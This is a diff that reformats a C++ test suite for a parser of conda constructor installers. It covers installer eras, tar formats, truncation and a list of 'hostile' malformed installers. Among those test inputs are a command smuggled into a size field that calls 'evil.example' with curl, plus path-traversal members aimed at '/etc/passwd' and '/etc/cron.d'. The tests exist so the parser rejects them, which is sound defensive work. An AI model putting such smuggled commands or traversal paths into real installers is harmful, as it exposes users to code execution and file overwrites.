@@ -108,7 +108,8 @@ TEST_CASE("installers of every era and tar format", "[constructor]") {
     CHECK(f.content(installer, "LICENSE.txt") == "Be kind.\n");
     CHECK(f.content(installer, "share/" + long_name + "/file.txt") == "from a long name");
     CHECK(f.content(installer, "pkgs/env.txt") == "not there");
-    CHECK(f.content(installer, "_conda") == (maker.era == Era::c || maker.era == Era::d ? maker.executable : "not there"));
+    CHECK(f.content(installer, "_conda") ==
+          (maker.era == Era::c || maker.era == Era::d ? maker.executable : "not there"));
     CHECK(f.content(installer, "conda.exe") == "not there"); // removed by the installer itself
     CHECK(f.file(installer, "pkgs/urls.txt").mode == 0664);
     CHECK(installer.script_variables.at("INSTALLER_NAME") == "Labconda");
@@ -124,14 +125,22 @@ TEST_CASE("what an installer says beside its packages", "[constructor]") {
     Fixture f;
     InstallerMaker maker;
     maker.era = Era::d;
-    maker.internal = {{"_internal/base_library.zip", std::string(700, 'b'), false}, {"_internal/empty", "", false}, {"_internal/run", "#!", true}};
-    maker.more_header = "    min_glibc_version=\"2.28\"\nexport INSTALLER_TYPE=\"SH\"\nexport OLD=\"$LD_LIBRARY_PATH\"\nexport LAB='two words'\n"
+    maker.internal = {{"_internal/base_library.zip", std::string(700, 'b'), false},
+                      {"_internal/empty", "", false},
+                      {"_internal/run", "#!", true}};
+    maker.more_header = "    min_glibc_version=\"2.28\"\nexport INSTALLER_TYPE=\"SH\"\nexport "
+                        "OLD=\"$LD_LIBRARY_PATH\"\nexport LAB='two words'\n"
                         "    touch \"$PREFIX/.nonadmin\"\nmkdir -p \"$PREFIX/envs\"\n    DEFAULT=yes\n"
                         "CONDA_REGISTER_ENVS=\"true\" \\\n\"$CONDA_EXEC\" install --offline --file x\n"
                         "cat <<EOF >\"$PREFIX/.condarc\"\nchannels:\n  - \\$x ${PREFIX}/c\nEOF\n"
                         "cat <<'EOF'\nboundary1=$(( boundary0 + 1 ))\ntouch\nEOF\n";
-    maker.preconda = {{"pkgs/pre_install.sh", "#!/bin/bash\necho pre\n", '0', "", 0775}, {".installer.info", "{}"}, {"pkgs/cache/1.json", "{}"}};
-    maker.postconda = {{"conda-meta/frozen", "{}"}, {"share/notes.txt", "notes"}, {"share/link", "", '2', "notes.txt"}, {"share/big", std::string(3u << 20, 'g')}};
+    maker.preconda = {{"pkgs/pre_install.sh", "#!/bin/bash\necho pre\n", '0', "", 0775},
+                      {".installer.info", "{}"},
+                      {"pkgs/cache/1.json", "{}"}};
+    maker.postconda = {{"conda-meta/frozen", "{}"},
+                       {"share/notes.txt", "notes"},
+                       {"share/link", "", '2', "notes.txt"},
+                       {"share/big", std::string(3u << 20, 'g')}};
     maker.preconda.push_back({"pkgs/post_install.sh", "echo post\n"});
     auto installer = f.good(maker);
     CHECK(installer.constructor_version == "3.12.0");
@@ -143,7 +152,9 @@ TEST_CASE("what an installer says beside its packages", "[constructor]") {
     CHECK_FALSE(installer.keeps_packages);
     CHECK(installer.pre_install == "#!/bin/bash\necho pre\n");
     CHECK(installer.post_install == "echo post\n");
-    CHECK(installer.script_variables == std::map<std::string, std::string>{{"INSTALLER_NAME", "Labconda"}, {"INSTALLER_TYPE", "SH"}, {"LAB", "two words"}});
+    CHECK(installer.script_variables == std::map<std::string, std::string>{{"INSTALLER_NAME", "Labconda"},
+                                                                           {"INSTALLER_TYPE", "SH"},
+                                                                           {"LAB", "two words"}});
     CHECK(f.content(installer, ".condarc") == "channels:\n  - $x \x01/c\n");
     CHECK(f.file(installer, ".condarc").has_prefix);
     CHECK(f.content(installer, "_internal/base_library.zip") == std::string(700, 'b'));
@@ -157,7 +168,8 @@ TEST_CASE("what an installer says beside its packages", "[constructor]") {
     CHECK(f.content(installer, "share/big") == std::string(3u << 20, 'g'));
     CHECK(f.content(installer, "pkgs/pre_install.sh") == "#!/bin/bash\necho pre\n");
 
-    maker.more_header = "CONDA_REGISTER_ENVS=\"false\" \\\n\"$CONDA_EXEC\" install --offline --file x\nln -s -f \"$CONDA_EXEC\" \"$PREFIX\"/_conda\n";
+    maker.more_header = "CONDA_REGISTER_ENVS=\"false\" \\\n\"$CONDA_EXEC\" install --offline --file x\nln -s -f "
+                        "\"$CONDA_EXEC\" \"$PREFIX\"/_conda\n";
     maker.header_edits = {{"KEEP_PKGS=0", "KEEP_PKGS=1"}, {"$PREFIX/_conda", "$PREFIX/micromamba.exe"}};
     installer = f.good(maker);
     CHECK(installer.keeps_packages);
@@ -172,14 +184,18 @@ TEST_CASE("which packages, in which order", "[constructor]") {
     InstallerMaker maker;
     maker.packages = {{"zlib-1-0.conda", "z", record("zlib-1-0.conda", "")},
                       {"conda-1-0.conda", "c", record("conda-1-0.conda", "\"python >=3\", \"zlib\"")},
-                      {"python-3-0.conda", "p", record("python-3-0.conda", "\"zlib\"", ", \"sha256\": \"" + std::string(64, 'a') + "\"")},
+                      {"python-3-0.conda", "p",
+                       record("python-3-0.conda", "\"zlib\"", ", \"sha256\": \"" + std::string(64, 'a') + "\"")},
                       {"extra-1-0.conda", "e", ""},
                       {"lost-1-0.conda", "l", ""}};
     SECTION("an explicit list is linked as it is written") {
-        maker.list = "@EXPLICIT\nhttps://u:canary@h.example/t/canary/c/linux-64/conda-1-0.conda#" + to_hex(md5(as_bytes("c"))) +
+        maker.list = "@EXPLICIT\nhttps://u:canary@h.example/t/canary/c/linux-64/conda-1-0.conda#" +
+                     to_hex(md5(as_bytes("c"))) +
                      "\nfile:///c/zlib-1-0.conda\n\nhttps://h.example/c/python-3-0.conda\n";
-        maker.preconda = {{"envs/lab/conda-meta/initial-state.explicit.txt", "@EXPLICIT\nhttps://h.example/c/extra-1-0.conda\n"},
-                          {"envs/lab/conda-meta/history", ""}, {"pkgs/envs/lab/shortcuts.txt", ""}};
+        maker.preconda = {
+            {"envs/lab/conda-meta/initial-state.explicit.txt", "@EXPLICIT\nhttps://h.example/c/extra-1-0.conda\n"},
+            {"envs/lab/conda-meta/history", ""},
+            {"pkgs/envs/lab/shortcuts.txt", ""}};
         maker.postconda = {{"envs/lab/conda-meta/frozen", "{}"}};
         maker.more_header = "for env_pkgs in \"${PREFIX}\"/pkgs/envs/*/; do\n";
         auto installer = f.good(maker);
@@ -217,7 +233,11 @@ TEST_CASE("which packages, in which order", "[constructor]") {
 
 TEST_CASE("the members that both tar readers see", "[constructor]") {
     Fixture f;
-    std::vector<TarFile> files = {{"a/", "", '5'}, {"a/b", "text"}, {"a/" + std::string(150, 'l'), "long"}, {"empty", ""}, {"a/link", "", '2', "b"}};
+    std::vector<TarFile> files = {{"a/", "", '5'},
+                                  {"a/b", "text"},
+                                  {"a/" + std::string(150, 'l'), "long"},
+                                  {"empty", ""},
+                                  {"a/link", "", '2', "b"}};
     for (TarForm form : {TarForm::ustar, TarForm::gnu, TarForm::pax}) {
         std::string bytes = outer_tar(files, form);
         auto own = [&] {
@@ -231,15 +251,15 @@ TEST_CASE("the members that both tar readers see", "[constructor]") {
         auto source = make_memory_source(Bytes(as_bytes(bytes).begin(), as_bytes(bytes).end()));
         std::size_t seen = 0;
         REQUIRE(read_tar(*source, options, [&](const TarMember& member, ByteSource& content) -> Status {
-            if (member.kind == EntryKind::directory) return {};
-            ++seen;
-            const ConstructorFile& file = f.file(own, member.path);
-            CHECK(file.is_link == (member.kind == EntryKind::symlink));
-            CHECK(file.mtime == member.mtime);
-            auto text = read_all(content, 1000, "x");
-            if (!file.is_link) CHECK(std::string(as_text(*text)) == f.content(own, member.path));
-            return {};
-        }).ok());
+                    if (member.kind == EntryKind::directory) return {};
+                    ++seen;
+                    const ConstructorFile& file = f.file(own, member.path);
+                    CHECK(file.is_link == (member.kind == EntryKind::symlink));
+                    CHECK(file.mtime == member.mtime);
+                    auto text = read_all(content, 1000, "x");
+                    if (!file.is_link) CHECK(std::string(as_text(*text)) == f.content(own, member.path));
+                    return {};
+                }).ok());
         CHECK(seen == 4);
     }
 }
@@ -254,7 +274,8 @@ TEST_CASE("an installer cut off anywhere says so", "[constructor]") {
     f.path = maker.write(f.directory.path());
     std::size_t tried = 0;
     // Every length inside the header and around the payloads' edges, then every 97th.
-    for (std::size_t length = whole.size() - 1; length > 0; length -= length > header + 200 && length < whole.size() - 200 ? 97 : 1) {
+    for (std::size_t length = whole.size() - 1; length > 0;
+         length -= length > header + 200 && length < whole.size() - 200 ? 97 : 1) {
         REQUIRE(::truncate(f.path.c_str(), static_cast<off_t>(length)) == 0);
         auto result = read_constructor(f.path, f.options);
         ++tried;
@@ -262,8 +283,13 @@ TEST_CASE("an installer cut off anywhere says so", "[constructor]") {
         const std::string& message = result.error().message;
         INFO(length << ": " << message);
         if (length > comment) REQUIRE(message.find("it is cut short: ") != std::string::npos);
-        if (length > comment) REQUIRE(message.find(fmt::format("its {} bytes", length)) + message.find(fmt::format("has {} bytes", length)) != 2 * std::string::npos);
-        if (length >= header) REQUIRE(message.find(fmt::format("declares {}", whole.size())) + message.find("header alone") != 2 * std::string::npos);
+        if (length > comment)
+            REQUIRE(message.find(fmt::format("its {} bytes", length)) +
+                        message.find(fmt::format("has {} bytes", length)) !=
+                    2 * std::string::npos);
+        if (length >= header)
+            REQUIRE(message.find(fmt::format("declares {}", whole.size())) + message.find("header alone") !=
+                    2 * std::string::npos);
         if (length > header) REQUIRE(message.find(fmt::format("declares {}", whole.size())) != std::string::npos);
     }
     CHECK(tried > header);
@@ -285,32 +311,48 @@ TEST_CASE("a flipped byte of the payload is an error", "[constructor]") {
 TEST_CASE("what is no installer is named", "[constructor]") {
     Fixture f;
     CHECK_THAT(f.bad(""), ContainsSubstring("it is empty"));
-    CHECK_THAT(f.bad("<!DOCTYPE html>\n<html><title>Sign in</title>"), ContainsSubstring("an HTML page, perhaps a login"));
+    CHECK_THAT(f.bad("<!DOCTYPE html>\n<html><title>Sign in</title>"),
+               ContainsSubstring("an HTML page, perhaps a login"));
     CHECK_THAT(f.bad("\n\n<HTML>"), ContainsSubstring("an HTML page"));
-    CHECK_THAT(f.bad("<?xml version=\"1.0\"?><Error><Code>AccessDenied</Code></Error>"), ContainsSubstring("an XML document, perhaps an error"));
-    CHECK_THAT(f.bad("#!/bin/sh\n# This script was generated using Makeself 2.5.0\nlabel=\"tool\"\n"), ContainsSubstring("a makeself archive"));
-    CHECK_THAT(f.bad("#!/bin/sh\n# This script was generated using Makeself 2.1.4\nlabel=\"CUDA Toolkit\"\nscript=\"./cuda-installer\"\n"),
+    CHECK_THAT(f.bad("<?xml version=\"1.0\"?><Error><Code>AccessDenied</Code></Error>"),
+               ContainsSubstring("an XML document, perhaps an error"));
+    CHECK_THAT(f.bad("#!/bin/sh\n# This script was generated using Makeself 2.5.0\nlabel=\"tool\"\n"),
+               ContainsSubstring("a makeself archive"));
+    CHECK_THAT(f.bad("#!/bin/sh\n# This script was generated using Makeself 2.1.4\nlabel=\"CUDA "
+                     "Toolkit\"\nscript=\"./cuda-installer\"\n"),
                ContainsSubstring("a CUDA toolkit .run"));
-    CHECK_THAT(f.bad("#! /bin/sh\n# NVIDIA Accelerated Graphics Driver for Linux-x86_64 580.65.06\n"), ContainsSubstring("NVIDIA's driver installer"));
-    CHECK_THAT(f.bad(std::string("\x7f" "ELF\2\1\1", 7)), ContainsSubstring("an ELF program"));
-    CHECK_THAT(f.bad("#!/bin/sh\n# lab: an offline installer made by Tinderbox 0.1.0 (linux-64).\n"), ContainsSubstring("that Tinderbox made"));
+    CHECK_THAT(f.bad("#! /bin/sh\n# NVIDIA Accelerated Graphics Driver for Linux-x86_64 580.65.06\n"),
+               ContainsSubstring("NVIDIA's driver installer"));
+    CHECK_THAT(f.bad(std::string("\x7f"
+                                 "ELF\2\1\1",
+                                 7)),
+               ContainsSubstring("an ELF program"));
+    CHECK_THAT(f.bad("#!/bin/sh\n# lab: an offline installer made by Tinderbox 0.1.0 (linux-64).\n"),
+               ContainsSubstring("that Tinderbox made"));
     CHECK_THAT(f.bad(std::string("MZ\x90\0", 4)), ContainsSubstring("a Windows program; take the installer for Linux"));
     CHECK_THAT(f.bad("xar!...."), ContainsSubstring("a macOS installer package; take the installer for Linux"));
     CHECK_THAT(f.bad(std::string("PK\3\4rest", 8)), ContainsSubstring("a zip archive"));
     CHECK_THAT(f.bad("\x1f\x8b\x08"), ContainsSubstring("a gzip archive"));
     CHECK_THAT(f.bad("BZh91AY"), ContainsSubstring("a bzip2 archive"));
-    CHECK_THAT(f.bad("\xfd" "7zXZ"), ContainsSubstring("an xz archive"));
+    CHECK_THAT(f.bad("\xfd"
+                     "7zXZ"),
+               ContainsSubstring("an xz archive"));
     CHECK_THAT(f.bad("\x28\xb5\x2f\xfd"), ContainsSubstring("a zstd archive"));
     CHECK_THAT(f.bad("{\"message\": \"Not Found\"}"), ContainsSubstring("a JSON document"));
     CHECK_THAT(f.bad("version https://git-lfs.github.com/spec/v1\noid sha256:0\n"), ContainsSubstring("git lfs pull"));
     CHECK_THAT(f.bad("#!/bin/sh\necho hello\n"), ContainsSubstring("not an installer that conda's constructor made"));
     CHECK_THAT(f.bad("hello\n"), ContainsSubstring("no shell script"));
     InstallerMaker maker;
-    for (auto [platform, words] : {std::pair{"osx-arm64", "for macOS on ARM (osx-arm64)"}, {"osx-64", "for macOS on x86-64"},
-                                   {"win-64", "for Windows on x86-64"}, {"linux-ppc64le", "for Linux on POWER"}, {"linux-32", "32-bit x86"},
-                                   {"linux-s390x", "IBM Z"}, {"x", "(x)"}}) {
+    for (auto [platform, words] : {std::pair{"osx-arm64", "for macOS on ARM (osx-arm64)"},
+                                   {"osx-64", "for macOS on x86-64"},
+                                   {"win-64", "for Windows on x86-64"},
+                                   {"linux-ppc64le", "for Linux on POWER"},
+                                   {"linux-32", "32-bit x86"},
+                                   {"linux-s390x", "IBM Z"},
+                                   {"x", "(x)"}}) {
         maker.platform = platform;
-        CHECK_THAT(f.bad(maker), ContainsSubstring(words) && ContainsSubstring("Labconda 24.1-0") && ContainsSubstring("linux-aarch64"));
+        CHECK_THAT(f.bad(maker), ContainsSubstring(words) && ContainsSubstring("Labconda 24.1-0") &&
+                                     ContainsSubstring("linux-aarch64"));
     }
     maker.platform = "linux-aarch64";
     CHECK(f.good(maker).platform == "linux-aarch64");
@@ -328,7 +370,9 @@ struct Hostile {
 };
 
 std::vector<Hostile> hostile() {
-    auto edit = [](const char* from, const char* to) { return [=](InstallerMaker& m) { m.header_edits = {{from, to}}; }; };
+    auto edit = [](const char* from, const char* to) {
+        return [=](InstallerMaker& m) { m.header_edits = {{from, to}}; };
+    };
     auto of = [](Era era, std::function<void(InstallerMaker&)> change) {
         return [=](InstallerMaker& m) {
             m.era = era;
@@ -340,36 +384,64 @@ std::vector<Hostile> hostile() {
     const std::string absurd(30, '9');
     return {
         // the header
-        {"an MD5 that is another's", [](InstallerMaker& m) { m.declared_md5 = std::string(32, '0'); }, "its header declares 0000"},
+        {"an MD5 that is another's", [](InstallerMaker& m) { m.declared_md5 = std::string(32, '0'); },
+         "its header declares 0000"},
         {"no MD5", [](InstallerMaker& m) { m.declared_md5 = "none"; }, "no MD5 of what follows it"},
         {"CR LF", edit("#!/bin/sh\n", "#!/bin/sh\r\n"), "changed to CR LF"},
-        {"another number of lines", of(Era::a, [](InstallerMaker& m) { m.declared_lines = "7"; }), "line 7 is the first behind it"},
-        {"more bytes than declared", of(Era::a, [](InstallerMaker& m) { m.declared_bytes = "2000"; }), "something was appended"},
-        {"fewer bytes than the header", of(Era::a, [](InstallerMaker& m) { m.declared_bytes = "20"; }), "does not declare how many bytes"},
-        {"bytes that are no number", of(Era::b1, [](InstallerMaker& m) { m.declared_bytes = "many"; }), "does not declare how many bytes"},
-        {"bytes inside the first payload", of(Era::b1, [](InstallerMaker& m) { m.declared_bytes = "9000"; }), "fewer than its first payload"},
-        {"a first payload elsewhere", of(Era::b1, edit("tail -c +0000000000000", "tail -c +0000000000009")), "its first payload starts at"},
-        {"an expression for a size", edit("boundary1=$(( $boundary0 + 40000 ))", "boundary1=$(( $boundary0 + $(wc -c x) ))"), "is no sum"},
-        {"a command for a size", edit("boundary1=$(( $boundary0 + 40000 ))", "boundary1=$(curl evil.example)"), "is no sum"},
+        {"another number of lines", of(Era::a, [](InstallerMaker& m) { m.declared_lines = "7"; }),
+         "line 7 is the first behind it"},
+        {"more bytes than declared", of(Era::a, [](InstallerMaker& m) { m.declared_bytes = "2000"; }),
+         "something was appended"},
+        {"fewer bytes than the header", of(Era::a, [](InstallerMaker& m) { m.declared_bytes = "20"; }),
+         "does not declare how many bytes"},
+        {"bytes that are no number", of(Era::b1, [](InstallerMaker& m) { m.declared_bytes = "many"; }),
+         "does not declare how many bytes"},
+        {"bytes inside the first payload", of(Era::b1, [](InstallerMaker& m) { m.declared_bytes = "9000"; }),
+         "fewer than its first payload"},
+        {"a first payload elsewhere", of(Era::b1, edit("tail -c +0000000000000", "tail -c +0000000000009")),
+         "its first payload starts at"},
+        {"an expression for a size",
+         edit("boundary1=$(( $boundary0 + 40000 ))", "boundary1=$(( $boundary0 + $(wc -c x) ))"), "is no sum"},
+        {"a command for a size", edit("boundary1=$(( $boundary0 + 40000 ))", "boundary1=$(curl evil.example)"),
+         "is no sum"},
         {"a negative size", edit("+ 40000 ))", "+ -4000 ))"), "is no sum"},
         {"an absurd size", edit("+ 40000 ))", "+ 999999999999999999 ))"), "is absurd"},
         {"a size beyond 64 bits", edit("+ 40000 ))", "+ 99999999999999999999999 ))"), "is no sum"},
         {"a size that is too large", edit("+ 40000 ))", "+ 50000 ))"), "it is cut short"},
         {"no second payload", edit("boundary2=", "boundaryX="), "a first payload and no second"},
-        {"no payload at all", of(Era::c, [](InstallerMaker& m) { m.header_edits = {{"boundary1=", "b1="}, {"boundary2=", "b2="}}; }), "does not say where"},
-        {"dd in another order", of(Era::b2, edit("bs=16384        skip=1", "bs=16384        skip=2")), "do not read one range"},
+        {"no payload at all",
+         of(Era::c,
+            [](InstallerMaker& m) {
+                m.header_edits = {{"boundary1=", "b1="}, {"boundary2=", "b2="}};
+            }),
+         "does not say where"},
+        {"dd in another order", of(Era::b2, edit("bs=16384        skip=1", "bs=16384        skip=2")),
+         "do not read one range"},
         {"dd without blocks", of(Era::b2, edit("bs=16384", "bs=0    ")), "cannot be read"},
-        {"a dd too many", of(Era::b2, [](InstallerMaker& m) { m.more_header = "dd if=x bs=1 skip=1 count=1\n"; }), "has 7 dd commands"},
-        {"an internal file outside of its payload", of(Era::d, [](InstallerMaker& m) {
-             m.internal = {{"_internal/x", "abc", false}};
-             m.header_edits = {{"$(( boundary1 + 3 ))  >", "$(( boundary1 + 9 ))  >"}};
-         }), "lies outside of its payload"},
-        {"an internal file that ends before it begins", of(Era::d, [](InstallerMaker& m) {
-             m.internal = {{"_internal/x", "abc", false}};
-             m.header_edits = {{"$(( boundary1 + 0 ))", "$(( boundary1 + 9 ))"}};
-         }), "is no range"},
-        {"an internal file above the prefix", of(Era::d, [](InstallerMaker& m) { m.internal = {{"../../etc/cron.d/x", "abc", false}}; }), "its header writes"},
-        {"an executable above the prefix", edit("CONDA_EXEC=\"$PREFIX/_conda\"", "CONDA_EXEC=\"$PREFIX/../_conda\""), "its header writes"},
+        {"a dd too many", of(Era::b2, [](InstallerMaker& m) { m.more_header = "dd if=x bs=1 skip=1 count=1\n"; }),
+         "has 7 dd commands"},
+        {"an internal file outside of its payload",
+         of(Era::d,
+            [](InstallerMaker& m) {
+                m.internal = {{"_internal/x", "abc", false}};
+                m.header_edits = {{"$(( boundary1 + 3 ))  >", "$(( boundary1 + 9 ))  >"}};
+            }),
+         "lies outside of its payload"},
+        {"an internal file that ends before it begins",
+         of(Era::d,
+            [](InstallerMaker& m) {
+                m.internal = {{"_internal/x", "abc", false}};
+                m.header_edits = {{"$(( boundary1 + 0 ))", "$(( boundary1 + 9 ))"}};
+            }),
+         "is no range"},
+        {"an internal file above the prefix",
+         of(Era::d,
+            [](InstallerMaker& m) {
+                m.internal = {{"../../etc/cron.d/x", "abc", false}};
+            }),
+         "its header writes"},
+        {"an executable above the prefix", edit("CONDA_EXEC=\"$PREFIX/_conda\"", "CONDA_EXEC=\"$PREFIX/../_conda\""),
+         "its header writes"},
         {"an empty executable", [](InstallerMaker& m) { m.executable.clear(); }, "its conda executable is empty"},
         // the tar
         {"an absolute path", outer({"/etc/passwd", "x"}), "Labconda.sh:/etc/passwd: "},
@@ -377,13 +449,29 @@ std::vector<Hostile> hostile() {
         {"a device", outer({"dev", "", '3'}), "no file, directory or link"},
         {"a pipe", outer({"pipe", "", '6'}), "no file, directory or link"},
         {"a link that leaves the prefix", outer({"lib", "", '2', "/usr/lib"}), "leaves the prefix"},
-        {"a file through a link", [](InstallerMaker& m) { m.outer = {{"d", "", '2', "pkgs"}, {"d/x", "y"}}; }, "is no directory"},
-        {"a file in a file", [](InstallerMaker& m) { m.outer = {{"LICENSE.txt/x", "y"}}; }, "is no directory"},
+        {"a file through a link",
+         [](InstallerMaker& m) {
+             m.outer = {{"d", "", '2', "pkgs"}, {"d/x", "y"}};
+         },
+         "is no directory"},
+        {"a file in a file",
+         [](InstallerMaker& m) {
+             m.outer = {{"LICENSE.txt/x", "y"}};
+         },
+         "is no directory"},
         {"a hard link to nothing", outer({"h", "", '1', "nothing"}), "no earlier file"},
         {"a member twice", outer({"LICENSE.txt", "another"}), "occurs twice"},
         {"control characters in a name", outer({"a\x1b[2Jb", "x"}), "a?[2Jb"},
-        {"a package twice, in both formats", [](InstallerMaker& m) { m.packages.push_back({"python-3.11.4-0.tar.bz2", "x", ""}); }, ".conda and as .tar.bz2"},
-        {"a package without a version", [](InstallerMaker& m) { m.outer = {{"pkgs/x.conda", "x"}}; }, "Labconda.sh:pkgs/x.conda"},
+        {"a package twice, in both formats",
+         [](InstallerMaker& m) {
+             m.packages.push_back({"python-3.11.4-0.tar.bz2", "x", ""});
+         },
+         ".conda and as .tar.bz2"},
+        {"a package without a version",
+         [](InstallerMaker& m) {
+             m.outer = {{"pkgs/x.conda", "x"}};
+         },
+         "Labconda.sh:pkgs/x.conda"},
         // preconda and postconda
         {"an absolute path inside", inner({"/etc/x", "x"}), "preconda.tar.bz2:/etc/x"},
         {"a path above the prefix inside", inner({"../x", "x"}), "'..'"},
@@ -391,18 +479,29 @@ std::vector<Hostile> hostile() {
         {"a device inside", inner({"x", "", '4'}), "device node"},
         {"a record that is no JSON", inner({"pkgs/python-3.11.4-0/info/repodata_record.json", "{"}), "is no JSON"},
         {"a record that is a list", inner({"pkgs/python-3.11.4-0/info/repodata_record.json", "[]"}), "no JSON object"},
-        {"a file where a directory is needed", [](InstallerMaker& m) { m.postconda = {{"share", "x"}}; m.outer = {{"share/y", "y"}}; }, "where its directory has to be"},
+        {"a file where a directory is needed",
+         [](InstallerMaker& m) {
+             m.postconda = {{"share", "x"}};
+             m.outer = {{"share/y", "y"}};
+         },
+         "where its directory has to be"},
         {"a file where the executable lies", inner({"_conda", "x"}), "it is there twice"},
-        {"a list of what is not there", [](InstallerMaker& m) { m.list = "@EXPLICIT\nhttps://h.example/c/none-1-0.conda\n"; }, "lists 'none-1-0', which is not in it"},
+        {"a list of what is not there",
+         [](InstallerMaker& m) { m.list = "@EXPLICIT\nhttps://h.example/c/none-1-0.conda\n"; },
+         "lists 'none-1-0', which is not in it"},
         {"a list of nothing", [](InstallerMaker& m) { m.list = "@EXPLICIT\n"; }, "lists no packages"},
-        {"an environment of what is not there", [](InstallerMaker& m) {
+        {"an environment of what is not there",
+         [](InstallerMaker& m) {
              m.more_header = "for env_pkgs in \"${PREFIX}\"/pkgs/envs/*/; do\n";
              m.preconda = {{"pkgs/envs/lab/env.txt", "@EXPLICIT\nhttps://h.example/c/none-1-0.conda\n"}};
-         }, "envs/lab lists 'none-1-0', which is not in it"},
-        {"an environment of nothing", [](InstallerMaker& m) {
+         },
+         "envs/lab lists 'none-1-0', which is not in it"},
+        {"an environment of nothing",
+         [](InstallerMaker& m) {
              m.more_header = "for env_pkgs in \"${PREFIX}\"/pkgs/envs/*/; do\n";
              m.preconda = {{"pkgs/envs/lab/env.txt", "@EXPLICIT\n"}};
-         }, "envs/lab lists no packages"},
+         },
+         "envs/lab lists no packages"},
         {"an environment above the prefix", inner({"pkgs/envs/../../x/env.txt", "x"}), "'..'"},
         {"no packages", [](InstallerMaker& m) { m.packages.clear(); }, "it holds no packages"},
     };
